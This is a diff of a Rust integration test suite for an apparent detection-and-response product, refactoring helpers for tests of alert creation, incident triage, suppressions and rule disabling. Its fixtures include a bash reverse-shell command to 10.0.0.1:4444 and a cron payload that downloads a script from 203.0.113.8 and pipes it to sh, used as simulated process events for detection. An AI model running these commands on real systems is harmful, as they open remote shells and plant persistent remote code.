@@ -6,73 +6,15 @@
 use std::time::Duration;
 
 use serde_json::{json, Value};
-use vigil_schema::{Col, Row, Table, Timestamp};
 
-use crate::harness::{uplink, wait_until, Api, Fixture};
-
-/// The id of a built-in rule, read from its file.
-fn rule_id(rel: &str) -> String {
-    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/rules/linux/").to_string() + rel;
-    let text = std::fs::read_to_string(&path).unwrap();
-    text.lines()
-        .find_map(|l| l.strip_prefix("id: "))
-        .unwrap_or_else(|| panic!("{path} has an id"))
-        .trim()
-        .to_string()
-}
-
-fn exec(image: &str, cmd: &str, parent: &str, pid: i64) -> Row {
-    let mut r = Row::event(
-        Table::DeviceProcessEvents,
-        "ProcessCreated",
-        Timestamp::now(),
-    );
-    r.put(Col::FolderPath, image);
-    r.put(Col::FileName, image.rsplit('/').next().unwrap_or(image));
-    r.put(Col::ProcessCommandLine, cmd);
-    r.put(Col::InitiatingProcessFolderPath, parent);
-    r.put(
-        Col::InitiatingProcessFileName,
-        parent.rsplit('/').next().unwrap_or(parent),
-    );
-    r.put(Col::AccountName, "www-data");
-    r.put(Col::ProcessId, pid);
-    r
-}
+use crate::harness::{exec, rule_id, uplink, wait_until, Api, Fixture};
 
 const REVERSE_SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
 const CRON_PAYLOAD: &str =
     "sh -c '(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://203.0.113.8/a.sh | sh\") | crontab -'";
 
-/// `method` with a JSON body, as (status, body).
-fn send(api: &Api, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
-    let agent: ureq::Agent = ureq::Agent::config_builder()
-        .http_status_as_error(false)
-        .build()
-        .into();
-    let url = format!("{}{path}", api.base);
-    let auth = format!("Bearer {}", api.token);
-    let mut r = match method {
-        "PATCH" => agent
-            .patch(&url)
-            .header("Authorization", &auth)
-            .send_json(body.unwrap_or(json!({}))),
-        "DELETE" => agent.delete(&url).header("Authorization", &auth).call(),
-        _ => panic!("{method}"),
-    }
-    .unwrap();
-    let status = r.status().as_u16();
-    (status, r.body_mut().read_json().unwrap_or(Value::Null))
-}
-
-fn alerts(api: &Api, query: &str) -> Vec<Value> {
-    let (st, v) = api.get(&format!("/api/v1/alerts{query}"));
-    assert_eq!(st, 200, "{v}");
-    v.as_array().cloned().unwrap_or_default()
-}
-
 fn alert_of(api: &Api, rule: &str) -> Option<Value> {
-    alerts(api, "").into_iter().find(|a| a["RuleId"] == rule)
+    api.alerts("").into_iter().find(|a| a["RuleId"] == rule)
 }
 
 #[test]
@@ -86,6 +28,7 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
         "/usr/bin/bash",
         REVERSE_SHELL,
         "/usr/sbin/nginx",
+        "www-data",
         4242,
     )]);
     let mut shell = None;
@@ -97,6 +40,7 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
         "/bin/sh",
         CRON_PAYLOAD,
         "/usr/sbin/php-fpm8.2",
+        "www-data",
         4343,
     )]);
     let mut cron = None;
@@ -114,7 +58,7 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
     assert_eq!(cron["IncidentId"], incident.as_str());
     let (st, inc) = fx.api.get(&format!("/api/v1/incidents/{incident}"));
     assert_eq!(st, 200, "{inc}");
-    let on_device = alerts(&fx.api, "?device=dev-triage").len();
+    let on_device = fx.api.alerts("?device=dev-triage").len();
     assert!(on_device >= 2);
     assert_eq!(inc["AlertCount"], on_device as i64, "{inc}");
     assert_eq!(inc["Alerts"].as_array().unwrap().len(), on_device);
@@ -130,13 +74,9 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
 
     // An analyst takes the reverse-shell alert.
     let id = shell["AlertId"].as_str().unwrap();
-    let (st, a) = send(
-        &fx.api,
-        "PATCH",
+    let (st, a) = fx.api.patch(
         &format!("/api/v1/alerts/{id}"),
-        Some(
-            json!({ "status": "InProgress", "assignee": "alice", "comment": "isolating the host" }),
-        ),
+        json!({ "status": "InProgress", "assignee": "alice", "comment": "isolating the host" }),
     );
     assert_eq!(st, 200, "{a}");
     assert_eq!(a["Status"], "InProgress");
@@ -146,14 +86,7 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
     assert!(a["History"].as_array().unwrap().len() >= 2, "{a}");
 
     // Bad input: 400 naming the field and the allowed values; nothing changes.
-    let patch = |body: Value| {
-        send(
-            &fx.api,
-            "PATCH",
-            &format!("/api/v1/alerts/{id}"),
-            Some(body),
-        )
-    };
+    let patch = |body: Value| fx.api.patch(&format!("/api/v1/alerts/{id}"), body);
     let (st, e) = patch(json!({ "status": "Closed", "assignee": "bob" }));
     assert_eq!(st, 400, "{e}");
     assert_eq!(
@@ -173,11 +106,9 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
         (a["Status"].as_str(), a["AssignedTo"].as_str()),
         (Some("InProgress"), Some("alice"))
     );
-    let (st, _) = send(
-        &fx.api,
-        "PATCH",
+    let (st, _) = fx.api.patch(
         "/api/v1/alerts/al_0000000000000000",
-        Some(json!({ "status": "New" })),
+        json!({ "status": "New" }),
     );
     assert_eq!(st, 404);
     let (st, c) = fx.api.post(
@@ -187,25 +118,20 @@ fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() 
     assert_eq!(st, 200, "{c}");
 
     // Filters.
-    assert_eq!(alerts(&fx.api, "?status=InProgress").len(), 1);
+    assert_eq!(fx.api.alerts("?status=InProgress").len(), 1);
     let (st, e) = fx.api.get("/api/v1/alerts?severity=Severe");
     assert_eq!(st, 400, "{e}");
 
     // Resolving the incident resolves its alerts, with its classification.
-    let (st, inc) = send(
-        &fx.api,
-        "PATCH",
-        &format!("/api/v1/incidents/{incident}"),
-        Some(
+    let (st, inc) = fx.api.patch(&format!("/api/v1/incidents/{incident}"), 
             json!({ "status": "Resolved", "classification": "TruePositive", "determination": "MultiStagedAttack" }),
-        ),
     );
     assert_eq!(st, 200, "{inc}");
     for a in inc["Alerts"].as_array().unwrap() {
         assert_eq!(a["Status"], "Resolved", "{a}");
         assert_eq!(a["Determination"], "MultiStagedAttack", "{a}");
     }
-    assert_eq!(alerts(&fx.api, "?status=Resolved").len(), on_device);
+    assert_eq!(fx.api.alerts("?status=Resolved").len(), on_device);
     up.shutdown(Duration::from_secs(1));
 }
 
@@ -220,6 +146,7 @@ fn a_suppression_hides_a_second_alert_and_a_disabled_rule_raises_nothing() {
         "/usr/bin/bash",
         REVERSE_SHELL,
         "/usr/sbin/nginx",
+        "www-data",
         10,
     )]);
     wait_until("the first alert", 30, || {
@@ -264,30 +191,23 @@ fn a_suppression_hides_a_second_alert_and_a_disabled_rule_raises_nothing() {
         "/bin/bash",
         REVERSE_SHELL,
         "/usr/sbin/nginx",
+        "www-data",
         11,
     )]);
     wait_until("the suppression applied", 30, || {
         let (_, v) = fx.api.get("/api/v1/suppressions");
         v[0]["Hits"] == 1
     });
-    let shells: Vec<Value> = alerts(&fx.api, "")
+    let shells: Vec<Value> = fx
+        .api
+        .alerts("")
         .into_iter()
         .filter(|a| a["RuleId"] == shell_rule.as_str())
         .collect();
     assert_eq!(shells.len(), 1, "the second alert is hidden: {shells:?}");
-    let (st, _) = send(
-        &fx.api,
-        "DELETE",
-        &format!("/api/v1/suppressions/{sid}"),
-        None,
-    );
+    let (st, _) = fx.api.delete(&format!("/api/v1/suppressions/{sid}"));
     assert_eq!(st, 200);
-    let (st, _) = send(
-        &fx.api,
-        "DELETE",
-        &format!("/api/v1/suppressions/{sid}"),
-        None,
-    );
+    let (st, _) = fx.api.delete(&format!("/api/v1/suppressions/{sid}"));
     assert_eq!(st, 404);
 
     // Disable the rule: a reverse shell (new group) raises nothing, while another rule in the
@@ -311,13 +231,27 @@ fn a_suppression_hides_a_second_alert_and_a_disabled_rule_raises_nothing() {
     let (st, _) = fx.api.post("/api/v1/rules/no-such-rule/disable", json!({}));
     assert_eq!(st, 404);
     up.send(vec![
-        exec("/usr/local/bin/bash", REVERSE_SHELL, "/usr/sbin/nginx", 12),
-        exec("/bin/sh", CRON_PAYLOAD, "/usr/sbin/php-fpm8.2", 13),
+        exec(
+            "/usr/local/bin/bash",
+            REVERSE_SHELL,
+            "/usr/sbin/nginx",
+            "www-data",
+            12,
+        ),
+        exec(
+            "/bin/sh",
+            CRON_PAYLOAD,
+            "/usr/sbin/php-fpm8.2",
+            "www-data",
+            13,
+        ),
     ]);
     wait_until("the cron alert of the same batch", 30, || {
         alert_of(&fx.api, &cron_rule).is_some()
     });
-    let shells = alerts(&fx.api, "")
+    let shells = fx
+        .api
+        .alerts("")
         .into_iter()
         .filter(|a| a["RuleId"] == shell_rule.as_str())
         .count();
@@ -340,10 +274,12 @@ fn a_suppression_hides_a_second_alert_and_a_disabled_rule_raises_nothing() {
         "/opt/bash",
         REVERSE_SHELL,
         "/usr/sbin/nginx",
+        "www-data",
         14,
     )]);
     wait_until("the re-enabled rule's alert", 30, || {
-        alerts(&fx.api, "")
+        fx.api
+            .alerts("")
             .iter()
             .filter(|a| a["RuleId"] == shell_rule.as_str())
             .count()
